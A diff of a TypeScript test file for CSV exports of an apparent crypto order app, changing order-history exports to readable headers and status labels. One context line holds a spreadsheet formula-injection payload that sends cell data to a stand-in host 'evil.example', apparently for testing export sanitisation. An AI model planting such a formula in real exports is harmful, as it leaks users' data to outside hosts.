@@ -8,6 +8,7 @@ import {
   EXPORT_MSG,
   EXPORT_PATHS,
   ORDER_HISTORY_EXPORT_COLUMNS,
+  ORDER_HISTORY_EXPORT_HEADERS,
   USER_EXPORT_COLUMNS,
 } from '#shared/contracts/exports.js';
 import { ADMIN_ORDER_SORTS, type TAdminOrder } from '#shared/contracts/orders.js';
@@ -26,6 +27,11 @@ const FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for de
 const DECIMAL = /^\d+\.\d+$/;
 
 type TPlaced = { id: number; quote: Record<string, string> };
+
+/** A row of the customer's file keyed by column name instead of its title. */
+function byColumn(row: Record<string, string>): Record<string, string> {
+  return Object.fromEntries(ORDER_HISTORY_EXPORT_COLUMNS.map((column) => [column, row[ORDER_HISTORY_EXPORT_HEADERS[column]] ?? '']));
+}
 
 describe('CSV exports', () => {
   let t: TTestApp;
@@ -222,9 +228,12 @@ describe('CSV exports', () => {
       const response = await download(EXPORT_PATHS.orderHistory, ama.cookie);
       expect(response.statusCode, response.body).toBe(200);
       expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-order-history-\d{4}-\d{2}-\d{2}\.csv"$/);
-      const { header, rows } = csvObjects(response.body);
-      expect(header).toEqual([...ORDER_HISTORY_EXPORT_COLUMNS]);
+      const { header, rows: titled } = csvObjects(response.body);
+      // Issue 26 point 16: the screen's words and UTC named, not the API's codes and bare times.
+      expect(header).toEqual(ORDER_HISTORY_EXPORT_COLUMNS.map((column) => ORDER_HISTORY_EXPORT_HEADERS[column]));
+      expect(header).toContain('Created (UTC, Ghana time)');
       expect(header).not.toContain('customerEmail');
+      const rows = titled.map(byColumn);
       expect(rows.map((row) => Number(row.orderId))).toEqual([placed.cancelled.id, placed.paid.id, placed.awaiting.id]);
       const paid = rows.find((row) => Number(row.orderId) === placed.paid.id)!;
       const order = await adminOrder(placed.paid.id);
@@ -233,9 +242,12 @@ describe('CSV exports', () => {
         amountFiat: '5.00',
         amountUsd: '5.00',
         amountGhs: order.amountGhs,
-        status: 'payment_submitted',
+        type: 'Buy',
+        status: 'Pending',
       });
-      const theirs = csvObjects((await download(EXPORT_PATHS.orderHistory, kofi.cookie)).body).rows;
+      expect(rows.map((row) => row.status)).toEqual(['Cancelled', 'Pending', 'Awaiting payment']);
+      expect(paid.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
+      const theirs = csvObjects((await download(EXPORT_PATHS.orderHistory, kofi.cookie)).body).rows.map(byColumn);
       expect(theirs.map((row) => Number(row.orderId))).toEqual([placed.kofi.id]);
     });
 
@@ -247,14 +259,15 @@ describe('CSV exports', () => {
         .where(eq(orders.id, placed.paid.id));
       try {
         const ids = async (query: string) =>
-          csvObjects((await download(`${EXPORT_PATHS.orderHistory}?${query}`, ama.cookie)).body).rows.map((row) => Number(row.orderId));
+          csvObjects((await download(`${EXPORT_PATHS.orderHistory}?${query}`, ama.cookie)).body).rows.map((row) =>
+            Number(byColumn(row).orderId),
+          );
         expect(await ids('from=2025-03-01&to=2025-03-01')).toEqual([placed.paid.id]);
         expect(await ids('from=2025-02-01&to=2025-02-28')).toEqual([]);
         expect(await ids('from=2025-03-02')).toEqual([placed.cancelled.id, placed.awaiting.id]);
         // An empty export is the header alone.
-        expect((await download(`${EXPORT_PATHS.orderHistory}?to=2024-12-31`, ama.cookie)).body).toBe(
-          `\uFEFF${ORDER_HISTORY_EXPORT_COLUMNS.join(',')}\r\n`,
-        );
+        const empty = csvObjects((await download(`${EXPORT_PATHS.orderHistory}?to=2024-12-31`, ama.cookie)).body);
+        expect(empty).toEqual({ header: ORDER_HISTORY_EXPORT_COLUMNS.map((column) => ORDER_HISTORY_EXPORT_HEADERS[column]), rows: [] });
       } finally {
         await t.database.db.update(orders).set({ createdAt }).where(eq(orders.id, placed.paid.id));
       }
